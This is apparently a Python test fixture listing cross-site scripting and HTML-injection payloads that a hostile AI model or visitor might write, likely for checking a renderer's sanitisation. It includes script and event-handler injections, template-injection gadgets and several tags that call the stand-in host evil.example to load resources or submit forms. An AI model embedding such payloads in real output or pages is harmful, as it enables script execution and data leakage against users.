"""Texts that a hostile model or visitor would write."""

PAYLOADS = (
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "<img src='http://evil.example/x.png'>",
    "![x](http://evil.example/x.png)",
    "<svg onload='window.pwned = 1'></svg>",
    "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "<style>body { background: url(http://evil.example/c) }</style>",
    "<div style='position:fixed;inset:0;background:red'>over</div>",
    "<form action='http://evil.example'><input name=p><button>go</button></form>",
    "<details open ontoggle='window.pwned = 1'>x</details>",
    "<video src='http://evil.example/v' autoplay></video>",
    "<a href='javascript:window.pwned = 1'>click</a>",
    "\"><img src=x onerror='window.pwned = 1'>",
    "<math><mtext><mglyph><style><img src=x onerror='window.pwned = 1'></style></mglyph></mtext></math>",
    "${window.pwned = 1}",
    "{{#with 'x'}}{{constructor.constructor 'window.pwned = 1'}}{{/with}}",
    "<base href='http://evil.example/'>",
    "<link rel=stylesheet href='http://evil.example/s.css'>",
)
